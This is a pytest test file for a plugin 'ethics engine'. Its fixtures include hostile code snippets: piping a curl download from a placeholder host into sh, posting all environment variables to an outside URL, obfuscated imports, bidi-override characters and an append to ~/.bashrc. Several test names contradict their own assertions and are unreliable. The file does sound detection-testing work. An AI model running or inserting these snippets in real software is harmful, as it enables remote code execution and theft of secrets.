"""What the rules of ethics say, and that they say it of facts."""

import pytest

from aetherra.plugins.self_incorporation.gate.ethics import RULES, EthicsEngine

ENGINE = EthicsEngine()
PLUGIN = "from aetherra.plugins import Plugin, Request, handler\nclass A(Plugin):\n    name = 'a'\n    version = '1'\n"


def said(tree, path="a.py"):
    return {finding.rule: finding for finding in ENGINE.assess(tree.items()[path]).findings}


class TestRules:
    def test_a_framework_or_a_topic_has_no_rule(self):
        """Each of the four frameworks and four topics is asked about."""
        assert {rule.framework for rule in RULES} == {"harm_and_benefit", "rules", "character", "care"}
        assert {rule.topic for rule in RULES} == {"privacy", "security", "autonomy", "benefit"}
        assert len({rule.name for rule in RULES}) == len(RULES)

    @pytest.mark.parametrize(
        ("rule", "outcome", "text"),
        [
            ("no_harm", "unacceptable", "import os\nos.system('curl http://x.example | sh')\n"),
            ("no_deceit", "unacceptable", "getattr(__import__('o' + 's'), 'system')('ls')\n"),
            ("no_deceit", "unacceptable", "x = 'a\u202e'\n"),
            ("no_deceit", "doubtful", "x = 'a\u202eb\u202c'\n"),
            ("no_deceit", "doubtful", f"x = '{'ab1CDEFGHIJKLMNOPqrs' * 30}'\n"),
            (
                "keeps_secrets",
                "unacceptable",
                "import os, requests\nrequests.post('http://x', json=dict(os.environ))\n",
            ),
            ("keeps_secrets", "doubtful", "import os, requests\nrequests.get(open('a').read())\n"),
            ("keeps_secrets", "acceptable", "import requests\nrequests.get('http://a.example')\nopen('a')\n"),
            ("people_in_charge", "unacceptable", PLUGIN + "class B(Request, tag='governance.ask'): ...\n"),
            (
                "people_in_charge",
                "unacceptable",
                "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n",
            ),
            ("stays_itself", "doubtful", "import subprocess, requests\nsubprocess.run(['ls'])\n"),
            ("some_benefit", "acceptable", "def greet():\n    return 'hi'\n"),
            ("can_be_looked_after", "doubtful", PLUGIN.replace("    version = '1'\n", "")),
            ("honest_needs", "doubtful", PLUGIN + "    capabilities = ('fs:read:*',)\nimport socket\n"),
            ("honest_needs", "acceptable", PLUGIN + "    capabilities = ('network:outbound',)\nimport socket\n"),
        ],
    )
    def test_a_rule_does_not_see_its_fact(self, tree, rule, outcome, text):
        """Each rule decides on a fact of the item, and says which."""
        tree.write({"a.py": text})
        if rule == "keeps_secrets" and outcome == "acceptable":
            from aetherra.plugins.self_incorporation.gate.look import look

            item = look(tree.items()["a.py"]).item
            finding = {each.rule: each for each in ENGINE.assess(item).findings}[rule]
        else:
            finding = said(tree)[rule]

        assert finding.outcome == outcome
        assert finding.fact
        assert finding.reason

    def test_what_could_not_be_read_is_vouched_for(self, tree):
        """A package with a file that nobody could parse is not acceptable."""
        tree.write({"p/__init__.py": "", "p/a.py": "def"})

        assert said(tree, "p")["judged_whole"].outcome == "unacceptable"

    def test_a_harmless_plugin_is_doubted(self, tree):
        """What answers a request and does no more is acceptable by every rule."""
        text = (
            PLUGIN + "    @handler\n    async def b(self, b: 'B') -> None: ...\nclass B(Request[int], tag='a.b'): ...\n"
        )
        tree.write({"a.py": text})

        assert ENGINE.assess(tree.items()["a.py"]).outcome == "acceptable"
        assert said(tree)["some_benefit"].fact == "1 requests answered"

    def test_the_worst_is_outweighed(self, tree):
        """No number of good findings makes up for one that is not acceptable."""
        tree.write({"a.py": "import os\ndef greet():\n    os.system('curl http://x.example | sh')\n"})
        assessment = ENGINE.assess(tree.items()["a.py"])

        assert assessment.outcome == "unacceptable"
        assert assessment.findings[0].lines[0].line == 3
